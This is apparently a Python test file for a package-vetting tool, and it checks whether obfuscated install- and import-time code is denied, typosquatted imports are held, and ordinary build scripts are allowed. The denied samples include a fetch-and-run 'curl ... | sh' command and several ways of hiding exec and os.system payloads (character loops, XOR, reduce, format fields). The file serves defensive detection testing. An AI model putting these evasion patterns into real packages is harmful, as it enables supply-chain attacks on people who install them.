"""A third red-team pass (issue 16; ADR 0164): what an attacker who has read ADRs 0157-0162
tries first against the flow pass, each closed by a general reading, not a pattern.

* A command list or a table bound in either branch of an ``if``/``try``/``match``, then run
  or looked up: each branch's list or table is an alternative (:mod:`parttext`,
  :mod:`eitherway`).
* A join over a comprehension or a generator that passes its items through
  (``''.join(p for p in parts)``), over ``map(str, parts)``, or through the unbound
  ``str.join``: the list's known text (:mod:`comprehend`, :mod:`listtext`).
* A template field that reads an attribute or an item (``'{0.p}'``, ``'{0[0]}'``,
  ``'{c.p}'``) or takes ``:s``: filled with what it reads (:mod:`fieldfill`).
* A look-alike import in code Python runs on import without a call at the top level: a
  decorator's body, a decorated function the decorator calls, ``__init_subclass__``, a
  metaclass's ``__new__``/``__init__``, a class's ``__init__`` when it is made, a
  function called from a class body or from a function that runs (:mod:`eagerimport`).
* Strings summed by ``functools.reduce(operator.add, …)``, ``operator.add``,
  ``str.__add__``, joined from a table's ``values()``, built in a ``for`` loop
  (``s += chr(c)``, ``L.append(c)``) or mapped by a lambda (:mod:`accrued`, :mod:`fold`).

Near-misses a real package writes stay allowed. Each sample is inert: vetting only reads
files."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import (
    CURL,
    PAYLOAD,
    X,
    built,
    init,
    on_import,
    on_install,
    verdict_cases,
    vet_package,
)

CODES = repr(list(PAYLOAD.encode()))
SHIFTED = repr([b + 1 for b in PAYLOAD.encode()])
XORED = repr([b ^ 5 for b in PAYLOAD.encode()])
RUN_AT_IMPORT = "def _run(f):\n    f()\n    return f\n"

DENIED: dict[str, dict[str, str]] = {
    # Command lists and tables bound in either branch.
    "command-list-bound-in-the-first-branch": on_import(
        "if os.name == 'posix':\n    cmd = ['sh', '-c', CURL]\nelse:\n"
        "    cmd = ['cmd', '/c', 'ver']\nsubprocess.call(cmd)\n"
    ),
    "command-list-bound-in-a-try-body": on_import(
        "try:\n    cmd = ['sh', '-c', CURL]\nexcept Exception:\n    cmd = ['true']\n"
        "subprocess.Popen(cmd)\n"
    ),
    "command-list-bound-in-the-first-case-of-a-match": on_import(
        "match os.name:\n    case 'posix':\n        cmd = ['bash', '-c', CURL]\n    case _:\n"
        "        cmd = ['cmd', '/c', 'ver']\nsubprocess.run(cmd)\n"
    ),
    "command-list-bound-before-an-if-without-else": on_import(
        "cmd = ['sh', '-c', CURL]\nif os.name == 'nt':\n    cmd = ['cmd', '/c', 'ver']\n"
        "subprocess.call(cmd)\n"
    ),
    "command-list-bound-in-the-first-branch-in-setup-py": on_install(
        "if os.name == 'posix':\n    cmd = ['sh', '-c', CURL]\nelse:\n"
        "    cmd = ['cmd', '/c', 'ver']\nsubprocess.check_call(cmd)\n"
    ),
    "command-list-bound-in-a-branch-then-joined": on_import(
        "if os.name == 'posix':\n    cmd = ['curl', '-s', 'http://203.0.113.5/x', '|', 'sh']\n"
        "else:\n    cmd = ['ver']\nos.system(' '.join(cmd))\n"
    ),
    "payload-listed-in-a-branch-then-indexed": on_import(
        "if sys.version_info[0] >= 3:\n    L = [P]\nelse:\n    L = ['pass']\nexec(L[0])\n"
    ),
    "command-in-a-table-bound-in-the-first-branch": on_import(
        "if os.name == 'posix':\n    cfg = {'c': CURL}\nelse:\n    cfg = {'c': 'ver'}\n"
        "os.system(cfg['c'])\n"
    ),
    "payload-in-a-table-bound-in-the-first-branch": on_import(
        "if sys.version_info[0] >= 3:\n    cfg = {'p': P}\nelse:\n    cfg = {'p': 'pass'}\n"
        "exec(cfg['p'])\n"
    ),
    "command-in-a-table-bound-in-a-branch-got": on_import(
        "if os.name == 'posix':\n    cfg = {'c': CURL}\nelse:\n    cfg = {'c': 'ver'}\n"
        "os.system(cfg.get('c'))\n"
    ),
    # Joins over comprehensions and generators.
    "payload-joined-over-a-generator": on_import(f"exec(''.join(p for p in [P, {X}]))\n"),
    "payload-joined-over-a-list-comprehension": on_import(
        f"exec(''.join([p for p in [P, {X}]]))\n"
    ),
    "command-joined-over-a-generator": on_import(f"os.system(' '.join(w for w in [CURL, {X}]))\n"),
    "payload-joined-over-a-generator-of-a-name": on_import(
        f"parts = [P, {X}]\nexec(''.join(p for p in parts))\n"
    ),
    "payload-joined-over-a-generator-held-in-a-name": on_import(
        f"parts = [P, {X}]\ng = (p for p in parts)\nexec(''.join(g))\n"
    ),
    "payload-joined-over-a-generator-with-a-condition": on_import(
        f"exec(''.join(p for p in [P, {X}] if p))\n"
    ),
    "payload-joined-over-a-generator-with-a-condition-of-written-items": on_import(
        "exec(''.join(p for p in [P, 'x'] if p))\n"
    ),
    "payload-joined-by-the-unbound-str-join": on_import(
        f"parts = [P, {X}]\nexec(str.join('', parts))\n"
    ),
    "payload-joined-over-map-str": on_import(f"exec(''.join(map(str, [P, {X}])))\n"),
    # Template fields that look something up.
    "command-read-from-a-class-attribute-field": on_import(
        "class C:\n    p = CURL\nos.system('{0.p}'.format(C))\n"
    ),
    "command-read-from-an-instance-attribute-field": on_import(
        "class C:\n    pass\nc = C()\nc.p = CURL\nos.system('{0.p}'.format(c))\n"
    ),
    "command-read-from-a-keyword-attribute-field": on_import(
        "class C:\n    p = CURL\nos.system('{c.p}'.format(c=C))\n"
    ),
    "command-read-from-a-keyword-index-field": on_import(
        f"os.system('{{a[0]}} {{b}}'.format(a=[CURL], b={X}))\n"
    ),
    "payload-read-from-an-index-field": on_import(f"exec('{{0[0]}}{{1}}'.format([P], {X}))\n"),
    "payload-read-from-an-attribute-field": on_import(
        f"class C:\n    p = P\nexec('{{0.p}}{{1}}'.format(C, {X}))\n"
    ),
    "command-formatted-with-an-s-spec": on_import(f"os.system('{{:s}} {{}}'.format(CURL, {X}))\n"),
    # Strings summed, joined from a table, built in a loop or mapped by a lambda.
    "payload-summed-by-reduce": on_import(
        f"import functools, operator\nexec(functools.reduce(operator.add, [P, {X}]))\n"
    ),
    "payload-written-in-parts-summed-by-reduce": on_import(
        "import functools, operator\nexec(functools.reduce(operator.add, "
        f"['imp', 'ort os\\nos.sys', 'tem(', {repr(CURL)!r}, ')']))\n"
    ),
    "command-summed-by-reduce": on_import(
        f"import functools, operator\nos.system(functools.reduce(operator.add, [CURL, ' ', {X}]))\n"
    ),
    "payload-added-by-operator-add": on_import(f"import operator\nexec(operator.add(P, {X}))\n"),
    "payload-added-by-its-add-method": on_import(f"exec(P.__add__({X}))\n"),
    "payload-joined-from-a-table-s-values": on_import(
        "D = {'a': 'import os\\n', 'b': 'os.system(' + " + repr(repr(CURL)) + " + ')'}\n"
        "exec(''.join(D.values()))\n"
    ),
    "payload-spelt-into-a-string-in-a-loop": on_import(
        f"s = ''\nfor c in {CODES}:\n    s += chr(c)\nexec(s)\n"
    ),
    "payload-spelt-into-a-string-in-a-loop-with-pass": on_import(
        f"s = ''\nfor c in {CODES}:\n    s += chr(c)\n    pass\nexec(s)\n"
    ),
    "payload-spelt-into-a-string-in-a-loop-through-a-name": on_import(
        f"s = ''\nfor c in {XORED}:\n    k = c ^ 5\n    s = s + chr(k)\nexec(s)\n"
    ),
    "payload-spelt-into-a-list-in-a-loop": on_import(
        f"L = []\nfor c in {CODES}:\n    L.append(c)\nexec(bytes(L).decode())\n"
    ),
    "payload-mapped-by-a-lambda": on_import(
        f"exec(''.join(map(lambda c: chr(c - 1), {SHIFTED})))\n"
    ),
}

HELD: dict[str, dict[str, str]] = {
    "look-alike-imported-in-a-decorated-function-the-decorator-calls": init(
        RUN_AT_IMPORT + "@_run\ndef _body():\n    import reqeusts\n"
    ),
    "look-alike-imported-from-in-a-decorated-function": init(
        RUN_AT_IMPORT + "@_run\ndef _body():\n    from reqeusts import get\n"
    ),
    "standard-look-alike-imported-in-a-decorated-function": init(
        RUN_AT_IMPORT + "@_run\ndef _body():\n    global sockets\n    import sockets\n"
    ),
    "look-alike-imported-under-a-decorator-factory": init(
        "def _run(*a):\n    def d(f):\n        f()\n        return f\n    return d\n"
        "@_run('x')\ndef _body():\n    import reqeusts\n"
    ),
    "look-alike-imported-in-a-class-decorator": init(
        "def reg(c):\n    import reqeusts\n    return c\n@reg\nclass A:\n    pass\n"
    ),
    "look-alike-imported-in-init-subclass": init(
        "class _R:\n    def __init_subclass__(cls, **kw):\n        import reqeusts\n"
        "class _P(_R):\n    pass\n"
    ),
    "look-alike-imported-in-a-metaclass-init": init(
        "class M(type):\n    def __init__(cls, *a):\n        import reqeusts\n"
        "class A(metaclass=M):\n    pass\n"
    ),
    "look-alike-imported-in-a-metaclass-new": init(
        "class M(type):\n    def __new__(mcs, *a):\n        import reqeusts\n"
        "        return type.__new__(mcs, *a)\nclass A(metaclass=M):\n    pass\n"
    ),
    "look-alike-imported-in-init-of-a-class-made-on-import": init(
        "class A:\n    def __init__(self):\n        import reqeusts\na = A()\n"
    ),
    "look-alike-imported-in-set-name": init(
        "class D:\n    def __set_name__(self, owner, name):\n        import reqeusts\n"
        "class A:\n    d = D()\n"
    ),
    "look-alike-imported-in-a-function-a-class-body-calls": init(
        "def _body():\n    import reqeusts\nclass A:\n    _body()\n"
    ),
    "look-alike-imported-in-a-function-a-called-function-calls": init(
        "def _a():\n    import reqeusts\ndef _b():\n    _a()\n_b()\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    "make-command-list-picked-by-platform-in-setup-py": built(
        "if sys.platform == 'win32':\n"
        "    cmd = ['cmake', '--build', 'build', '--config', 'Release']\n"
        "else:\n    cmd = ['make', '-C', 'src']\nsubprocess.check_call(cmd)\n"
    ),
    "compiler-table-picked-by-platform-in-setup-py": built(
        "if sys.platform == 'win32':\n    cfg = {'cc': 'cl', 'flags': '/O2'}\nelse:\n"
        "    cfg = {'cc': 'cc', 'flags': '-O2'}\n"
        "subprocess.check_call([cfg['cc'], cfg.get('flags'), '-c', 'probe.c'])\n"
    ),
    "screen-cleared-by-a-table-picked-by-platform-when-called": init(
        "import os\ndef clear():\n    if os.name == 'nt':\n        cmd = {'c': 'cls'}\n    else:\n"
        "        cmd = {'c': 'clear'}\n    os.system(cmd['c'])\n"
    ),
    "compiler-flags-joined-over-a-generator-in-setup-py": built(
        "flags = ['-O2', os.environ.get('CFLAGS', '')]\n"
        "os.system('cc ' + ' '.join(f for f in flags) + ' -c probe.c')\n"
    ),
    "git-describe-of-a-class-attribute-field-in-setup-py": built(
        "class Cfg:\n    ref = 'HEAD'\n"
        "out = subprocess.check_output('git describe --tags {0.ref}'.format(Cfg), shell=True)\n"
    ),
    "version-read-from-attribute-fields": init(
        "import sys\nPY = '{0.major}.{0.minor}'.format(sys.version_info)\n"
    ),
    "version-summed-by-reduce": init(
        "import functools, operator\nVERSION = functools.reduce(operator.add, ['1', '.', '2'])\n"
    ),
    "names-upper-cased-in-a-loop": init(
        "NAMES = []\nfor n in ['alpha', 'beta', 'gamma', 'delta', 'epsilon']:\n"
        "    NAMES.append(n.upper())\n"
    ),
    "compiler-command-grown-in-a-loop-in-setup-py": built(
        "cmd = ['cc', '-O2']\nfor src in ['a.c', 'b.c', 'c.c', 'd.c', 'e.c']:\n"
        "    cmd.append(src)\nsubprocess.check_call(cmd)\n"
    ),
    "names-mapped-by-a-lambda": init(
        "KEYS = list(map(lambda s: s.upper(), ['alpha', 'beta', 'gamma']))\n"
    ),
    "look-alike-imported-in-a-decorated-function-not-called": init(
        "def deco(f):\n    return f\n@deco\ndef background():\n    import docket\n"
        "    return docket\n"
    ),
    "winreg-imported-in-a-try-in-init-subclass": init(
        "class R:\n    def __init_subclass__(cls, **kw):\n        try:\n"
        "            import _winreg\n        except ImportError:\n            pass\n"
        "class P(R):\n    pass\n"
    ),
    "jarray-imported-on-jython-in-a-metaclass": init(
        "import sys\nclass M(type):\n    def __init__(cls, *a):\n"
        "        if sys.platform.startswith('java'):\n            import jarray\n"
        "class A(metaclass=M):\n    pass\n"
    ),
    "look-alike-imported-in-init-of-a-class-not-made": init(
        "class Worker:\n    def __init__(self):\n        import docket\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_third_red_team(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
